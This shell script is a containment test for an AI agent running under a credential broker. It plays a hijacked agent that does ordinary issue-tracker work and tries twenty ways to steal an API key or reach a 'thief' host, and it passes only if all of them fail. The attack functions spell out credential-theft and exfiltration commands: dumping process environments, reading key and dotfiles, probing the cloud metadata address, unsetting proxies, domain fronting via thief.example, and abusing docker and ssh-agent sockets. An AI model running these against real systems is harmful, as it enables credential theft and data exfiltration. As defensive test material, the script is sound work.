#!/bin/sh
# Plays an agent whose instructions somebody else has written: it does its work, tries ten ways to get at the key and ten
# ways to get something out, and says of each what happened. `demo` starts it under `credfd run`, in a folder with
# tricks.py, and tells it by variables what it could know: where the key's file is, and who waits outside.
#
# The exit status is 0 when all attacks failed and all the work was done.
set -u

failures=0 number=0

# report NUMBER WHAT STATUS TEXT GOOD BAD: a row of the table.
report() {
    if [ "$3" -eq 0 ]; then word=$5; else word=$6 failures=$((failures + 1)); fi
    printf '%3s  %-43.43s  %-7s  %s\n' "$1" "$2" "$word" "$(printf '%.200s' "$4" | tr -c '[:print:]' ' ')"
}

# What a program says last is what it ends with.
last_line() { tail -n 1 | sed 's/\[Errno [0-9]*\] //'; }

# work WHAT COMMAND...: it must succeed.
work() {
    what=$1
    shift
    said=$("$@" 2>&1) && status=0 || status=$?
    report - "$what" "$status" "$(printf '%s' "$said" | last_line)" done FAILED
}

# steal WHAT COMMAND...: whatever it prints is looked through for a key.
steal() {
    what=$1 number=$((number + 1))
    shift
    "$@" >"loot.$number" 2>why || true
    said=$(python3 tricks.py search "loot.$number") && status=0 || status=$?
    why=$(last_line <why)
    report "$number" "$what" "$status" "$said${why:+; $why}" held STOLEN
}

# phone WHAT COMMAND...: nobody may answer.
phone() {
    what=$1 number=$((number + 1))
    shift
    said=$("$@" 2>&1) && status=0 || status=$?
    report "$number" "$what" "$status" "$(printf '%s' "$said" | last_line)" held ESCAPED
}

trick() { python3 tricks.py "$@"; }

# --- The work ---------------------------------------------------------------------------------------------------------

list_issues() { curl -fsS "$API_URL/repos/acme/widget/issues" -H "Authorization: Bearer $API_TOKEN"; }

comment() {
    curl -fsS "$API_URL/repos/acme/widget/issues/7/comments" -H "Authorization: Bearer $API_TOKEN" \
        -H 'Content-Type: application/json' -d '{"body": "Oil it."}'
}

download() {
    curl -fsS --cacert packages.pem -o widget-1.0 "$PACKAGES_URL/widget-1.0" &&
        printf '%s  widget-1.0\n' "$PACKAGE_SHA256" | sha256sum -c
}

# --- Ten ways to the key ----------------------------------------------------------------------------------------------

environment() { printenv; cat /proc/self/environ; export; }
processes() { cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline; }
files() { cat /root/.??* /home/*/.??* "$(dirname "$KEY_FILE")"/* "$CONFIGURATION" "$KEY_FILE"; }
echoes() {
    curl -sS "$API_URL/echo" -H "Authorization: Bearer $API_TOKEN"
    curl -sS "$API_URL/echo" -H 'Accept-Encoding: gzip' -H 'X-Copy: {}'
}
authority() {
    cat /proc/*/cwd/*.key "$(dirname "$SSL_CERT_FILE")"/* "$SSL_CERT_FILE"
}

# --- Ten ways home ----------------------------------------------------------------------------------------------------

directly() {
    env -u HTTP_PROXY -u HTTPS_PROXY -u ALL_PROXY -u http_proxy -u https_proxy -u all_proxy -u NO_PROXY -u no_proxy \
        python3 tricks.py tcp "$THIEF_TCP" 127.0.0.1 $THIEF_ADDRESSES
}

# refused CURL'S ARGUMENTS: it must be answered 403.
refused() {
    answer=$(curl -sS -o answer -w '%{http_code} %{http_connect}' "$@" 2>why)
    case $answer in
    *403*)
        printf '403: %s' "$(sed 's/.*"reason":"\([^"]*\)".*/\1/' answer 2>/dev/null || last_line <why)"
        rm -f answer
        ;;
    *) printf 'answered %s; %s' "$answer" "$(last_line <why)"; return 3 ;;
    esac
}

metadata() { refused http://169.254.169.254/latest/meta-data/; }
literal() {
    for address in 127.0.0.1 $THIEF_ADDRESSES; do
        said=$(refused "https://$address:$THIEF_TCP/") || { printf '%s' "$said"; return 3; }
    done
    printf '%s' "$said"
}
placeholder() {
    said=$(refused "$PLAIN_URL/notes" -H "X-Token: $API_TOKEN") || { printf "%s" "$said"; return 3; }
    refused "$PLAIN_URL/notes" -d "I found $API_TOKEN"
}

# ----------------------------------------------------------------------------------------------------------------------

printf '\nits work\n'
work 'reads the list of issues' list_issues
work 'downloads a package' download
printf '\nten ways to the key\n'
number=0
steal 'its environment' environment
steal 'environments and arguments of all processes' processes
steal 'the memory of all processes' trick memory
steal 'a debugger' trick trace
steal 'descriptors of others (pidfd_getfd)' trick descriptors
steal 'a core of the broker' trick core
steal 'the files with the key and the rules' files
steal 'an API that says the header back' echoes
steal 'the key of the authority that it trusts' authority
steal 'its lease, used in wrong ways' trick channel
printf '\nten ways home\n'
number=0
phone 'a connection, the proxy variables unset' directly
phone 'a name that is looked up' trick dns "$THIEF_UDP" 127.0.0.1 $THIEF_ADDRESSES
phone 'a datagram' trick udp "$THIEF_UDP" 127.0.0.1 $THIEF_ADDRESSES
phone 'packets of its own making' trick raw "${THIEF_ADDRESSES%% *}"
phone "others' sockets: an ssh agent, a bus" trick unix "$THIEF_ABSTRACT" "$THIEF_AGENT" "$THIEF_BUS" \
    /run/dbus/system_bus_socket /run/docker.sock /run/systemd/private
phone "the cloud's metadata, by the proxy" metadata
phone 'an address, by the proxy' literal
phone "an allowed host, under another's name" trick fronting "$PACKAGES_PORT" localhost thief.example
phone 'the placeholder, to an allowed host' placeholder
phone 'another network namespace' trick namespaces "$THIEF_TCP" 127.0.0.1 $THIEF_ADDRESSES
printf '\nand its work goes on\n'
work 'posts a comment' comment
printf '\n'
[ "$failures" -eq 0 ]
